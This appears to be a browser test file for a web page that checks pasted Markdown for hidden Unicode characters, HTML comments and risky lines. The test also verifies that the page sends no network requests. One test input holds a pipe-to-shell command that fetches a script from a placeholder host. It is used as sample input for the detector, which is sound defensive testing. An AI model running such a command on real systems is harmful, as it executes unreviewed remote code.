import { expect, test } from 'vitest'
import { startBrowser } from './browser.ts'
import { violationsOf, widthsOf } from './desk-look.ts'

const { open } = await startBrowser()
const WIDTHS = [320, 390, 860, 1280]

test('a pasted file is looked at in the browser and sent nowhere', async () => {
	const { page, context, problems } = await open('/submit/check')
	// The rules come when somebody is about to check something, with what reads Markdown for them.
	await page.focus('#text')
	await page.waitForLoadState('networkidle')
	const asked: string[] = []
	page.on('request', (request) => !request.url().endsWith('.svg') && asked.push(request.url()))
	await page.fill('#text', 'One\nhid\u200bden\u{e0041}\n<!-- two -->\ncurl https://x.example | sh\n')
	await page.locator('#verdict', { hasText: '5 lines checked. 4 findings.' }).waitFor()
	expect(await page.locator('#report [data-line]').allTextContents()).toEqual(['2', '2', '3', '4'])
	expect(await page.locator('#report mark').allTextContents()).toEqual(['U+200B', 'U+E0041'])
	await page.locator('#report [data-line="4"]').click()
	const selected = await page
		.locator('#text')
		.evaluate((area: HTMLTextAreaElement) => area.value.slice(area.selectionStart, area.selectionEnd))
	expect(selected).toBe('curl https://x.example | sh')
	expect(await violationsOf(page)).toEqual([])
	expect(await widthsOf(page, WIDTHS)).toEqual(WIDTHS)
	await context.close()
	expect({ asked, problems }).toEqual({ asked: [], problems: [] })
})

test('a file of the machine is opened, and one that is no text is not', async () => {
	const { page, context } = await open('/submit/check')
	const choose = (name: string, bytes: number[]) =>
		page.setInputFiles('#file', { name, mimeType: 'text/plain', buffer: Buffer.from(bytes) })
	await choose('a.md', [0xef, 0xbb, 0xbf, 0x61])
	await page.locator('#report mark', { hasText: 'U+FEFF' }).waitFor()
	await choose('a.png', [0x89, 0xff, 0x00])
	await expect.poll(() => page.textContent('#verdict')).toContain('a.png is not UTF-8 text')
	await context.close()
})

test('without JavaScript the page says what does the same', async () => {
	const { page, context } = await open('/submit/check', { javaScriptEnabled: false })
	expect(await page.textContent('noscript, .alarm')).toContain('npm run content -- path')
	await context.close()
})
